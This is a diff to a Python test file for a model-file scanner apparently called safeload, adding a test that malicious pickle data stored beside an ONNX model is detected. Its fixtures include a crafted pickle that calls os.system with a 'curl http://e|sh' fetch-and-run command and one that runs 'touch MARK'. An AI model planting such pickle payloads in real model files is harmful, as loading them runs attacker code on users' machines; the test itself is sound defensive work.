@@ -10,6 +10,7 @@ import pickle
 import tarfile
 import zipfile
 import zlib
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import joblib
@@ -22,9 +23,12 @@ import safeload
 from test_evasions import REFUSED, SEEN
 from testkit.hiding import CALLS, GADGETS, INSTANTIATED, P4, REFERENCED, nested, stack_global, text_global
 
+FILES = Path(__file__).parent / "data" / "scan"
+
 if TYPE_CHECKING:
     from collections.abc import Callable
-    from pathlib import Path
+
+    from conftest import Keys
 
 PAYLOAD = P4 + stack_global("os", "system") + b"\x8c\x10curl http://e|sh\x85R."
 
@@ -182,6 +186,31 @@ def test_variables_of_tensorflow_that_are_a_pickle_are_looked_into(tmp_path: Pat
     for payload in (PAYLOAD, b"cos\nsystem\n(S'touch MARK'\ntR.", zlib.compress(PAYLOAD)):
         data.write_bytes(payload)
         assert safeload.scan(tmp_path).exit_code == 1
+
+
+@pytest.mark.parametrize("packed", [False, True])
+def test_numbers_beside_a_model_of_onnx_that_are_a_pickle_are_looked_into(
+    packed: bool, tmp_path: Path, team: Keys
+) -> None:
+    folder = tmp_path / "ox"
+    folder.mkdir()
+    (folder / "model.onnx").write_bytes((FILES / "external.onnx").read_bytes())  # which names weights.bin
+
+    def code(payload: bytes, name: str = "weights.bin") -> int:
+        (folder / name).write_bytes(payload)
+        if not packed:
+            return safeload.scan(folder).exit_code
+        safeload.pack(folder, tmp_path / "m.safeload", signer=team.key)
+        return safeload.scan(tmp_path / "m.safeload").exit_code
+
+    for seed in range(20):
+        assert code(np.random.default_rng(seed).normal(size=300).astype("f4").tobytes()) == 0
+    for payload in (PAYLOAD, b"cos\nsystem\n(S'touch MARK'\ntR.", zlib.compress(PAYLOAD), in_zip(PAYLOAD, "a.pkl")):
+        assert code(payload) == 1
+    assert code(b"") == 2
+    numbers = np.random.default_rng(0).normal(size=300).astype("f4").tobytes()
+    assert code(numbers) == 0
+    assert code(numbers, "other.bin") == 2  # of which nobody says what it is
 
 
 @pytest.mark.parametrize("name", ["model.txt", "weights.safetensors", "README", "a.npy", "m.onnx", "x.zip", ".hidden"])
